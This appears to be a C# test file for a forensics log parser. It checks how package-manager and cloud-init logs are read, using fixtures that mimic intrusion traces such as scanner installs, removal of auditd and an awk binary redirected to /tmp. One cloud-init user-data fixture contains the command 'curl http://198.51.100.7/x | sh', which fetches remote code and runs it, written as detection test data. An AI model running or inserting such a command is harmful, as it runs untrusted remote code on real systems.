using Forensics.Parsers.Artifacts.Linux.Logs;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux.Logs;

/// <summary>Logs of package managers and cloud-init.</summary>
public sealed class PackageLogTests
{
    [Fact]
    public void Dpkg_says_what_was_installed_upgraded_and_removed()
    {
        List<LogEvent> found = LogRun.Read(new DpkgLogParser(), """
            2024-03-09 10:00:00 startup archives install
            2024-03-09 10:00:01 install masscan:amd64 <none> 2:1.3.2
            2024-03-09 10:00:02 status half-installed masscan:amd64 2:1.3.2
            2024-03-09 10:00:03 upgrade bash:amd64 5.2-1 5.2-2
            2024-03-09 10:00:04 remove auditd:amd64 1:3.0.9-1 <none>

            """, "/var/log/dpkg.log").Events;

        Assert.Equal(
            [(LogEventKind.PackageInstalled, "masscan:amd64", "2:1.3.2"), (LogEventKind.PackageUpgraded, "bash:amd64", "5.2-2"), (LogEventKind.PackageRemoved, "auditd:amd64", "1:3.0.9-1")],
            found.Select(e => (e.Event, e.Target!, e.Detail!)));
        Assert.All(found, e => Assert.Equal(LogTimeBasis.ZoneAssumed, e.First!.Value.Basis));
    }

    [Fact]
    public void The_history_of_apt_names_command_requester_and_every_package()
    {
        List<LogEvent> found = LogRun.Read(new DpkgLogParser(), """

            Start-Date: 2024-03-09  10:00:00
            Commandline: apt-get install -y gcc make
            Requested-By: eve (1001)
            Install: gcc:amd64 (4:12.2.0-3), cpp:amd64 (4:12.2.0-3, automatic), make:amd64 (4.3-4.1)
            Upgrade: bash:amd64 (5.2-1, 5.2-2)
            End-Date: 2024-03-09  10:00:09

            """, "/var/log/apt/history.log.1").Events;

        Assert.Equal("apt-get install -y gcc make", found[0].Command);
        Assert.Equal(["gcc:amd64", "cpp:amd64", "make:amd64"], found.Where(e => e.Event == LogEventKind.PackageInstalled).Select(e => e.Target));
        Assert.Equal("eve", found[1].User);
        Assert.Equal(1001, found[1].UserId);
        Assert.Equal("5.2-1, 5.2-2", Assert.Single(found, e => e.Event == LogEventKind.PackageUpgraded).Detail);
        Assert.Equal("2024-03-09T10:00:00", LogRun.TimeOf(found[1]));
    }

    [Fact]
    public void The_terminal_log_of_apt_and_the_log_of_alternatives()
    {
        List<LogEvent> terminal = LogRun.Read(new DpkgLogParser(), "Log started: 2024-03-09  10:00:00\nUnpacking nmap (7.93) ...\nUnpacking bash (5.2-2) over (5.2-1) ...\nRemoving auditd (1:3.0.9-1) ...\nLog ended: 2024-03-09  10:00:09\n", "/var/log/apt/term.log").Events;
        List<LogEvent> alternatives = LogRun.Read(new DpkgLogParser(), "update-alternatives 2024-03-09 10:00:00: run with --install /usr/bin/awk awk /tmp/awk 100\n", "/var/log/alternatives.log").Events;

        Assert.Equal([LogEventKind.PackageInstalled, LogEventKind.PackageUpgraded, LogEventKind.PackageRemoved], terminal.Select(e => e.Event));
        Assert.Equal("run with --install /usr/bin/awk awk /tmp/awk 100", Assert.Single(alternatives).Detail);
    }

    [Theory]
    [InlineData("Jan 05 12:00:01 Installed: masscan-1.3.2-1.el7.x86_64", LogEventKind.PackageInstalled, "masscan-1.3.2-1.el7.x86_64", null)]
    [InlineData("2024-03-09T11:07:49+0000 SUBDEBUG Installed: gcc-8.5.0-20.el8.x86_64", LogEventKind.PackageInstalled, "gcc-8.5.0-20.el8.x86_64", null)]
    [InlineData("2024-03-09T11:07:49Z SUBDEBUG Erase: audit-3.0-1.x86_64", LogEventKind.PackageRemoved, "audit-3.0-1.x86_64", null)]
    [InlineData("2024-03-09T11:07:49+0000 DDEBUG Command: dnf install -y gcc ", LogEventKind.PackageCommand, null, "dnf install -y gcc ")]
    [InlineData("2024-03-09T11:07:49+0000 [5] INFO DNF5 start with command line: \"dnf\" \"install\" \"gcc\"", LogEventKind.PackageCommand, null, "\"dnf\" \"install\" \"gcc\"")]
    [InlineData("2024-03-09 10:00:00|install|nmap|7.93-1|x86_64|root@h|repo-oss|abc|", LogEventKind.PackageInstalled, "nmap", null)]
    [InlineData("2024-03-09 10:00:00|remove |audit|3.0-1|x86_64|root@h|", LogEventKind.PackageRemoved, "audit", null)]
    [InlineData("2024-03-09 10:00:00|command|root@h|'zypper' 'in' 'nmap'|", LogEventKind.PackageCommand, null, "'zypper' 'in' 'nmap'")]
    [InlineData("[2024-03-09T10:00:00+0000] [ALPM] installed nmap (7.93-1)", LogEventKind.PackageInstalled, "nmap", null)]
    [InlineData("[2024-03-09 10:00] [PACMAN] Running 'pacman -S nmap'", LogEventKind.PackageCommand, null, "pacman -S nmap")]
    public void Yum_dnf_zypper_and_pacman(string line, LogEventKind kind, string? target, string? command)
    {
        LogEvent found = Assert.Single(LogRun.Read(new PackageManagerLogParser(), line + "\n", "/var/log/x.log").Events);

        Assert.Equal((kind, target, command), (found.Event, found.Target, found.Command));
        Assert.NotNull(found.First);
    }

    [Fact]
    public void Cloud_init_says_what_it_ran_and_was_given()
    {
        List<LogEvent> log = LogRun.Read(new CloudInitParser(), """
            2024-03-09 10:00:00,123 - util.py[DEBUG]: Cloud-init v. 23.4 running 'modules:final' at Sat, 09 Mar 2024 10:00:00 +0000. Up 12.34 seconds.
            2024-03-09 10:00:01,500 - subp.py[DEBUG]: Running command ['/var/lib/cloud/instance/scripts/part-001'] with allowed return codes [0] (shell=False, capture=False)

            """, "/var/log/cloud-init.log").Events;
        LogEvent output = Assert.Single(LogRun.Read(new CloudInitParser(), "Cloud-init v. 23.4 running 'init' at Sat, 09 Mar 2024 10:00:00 +0000. Up 5 seconds.\n", "/var/log/cloud-init-output.log").Events);
        LogEvent given = Assert.Single(LogRun.Read(new CloudInitParser(), "#!/bin/sh\ncurl http://198.51.100.7/x | sh\n", "/var/lib/cloud/instances/i-1/user-data.txt").Events);

        Assert.Equal(["modules:final", null], log.Select(e => e.Target));
        Assert.Equal("['/var/lib/cloud/instance/scripts/part-001']", log[1].Command);
        Assert.Equal("2024-03-09T10:00:00", LogRun.TimeOf(output));
        Assert.Equal(("given: script", "#!/bin/sh"), (given.Method, given.Detail));
    }

    [Fact]
    public void The_fixture_of_plaso()
    {
        string text = File.ReadAllText(Path.Combine(SharedImages.Require(), "plaso", "dpkg.log"));

        Assert.Equal("base-passwd:amd64", Assert.Single(LogRun.Read(new DpkgLogParser(), text, "/var/log/dpkg.log").Events, e => e.Event == LogEventKind.PackageInstalled).Target);
    }
}
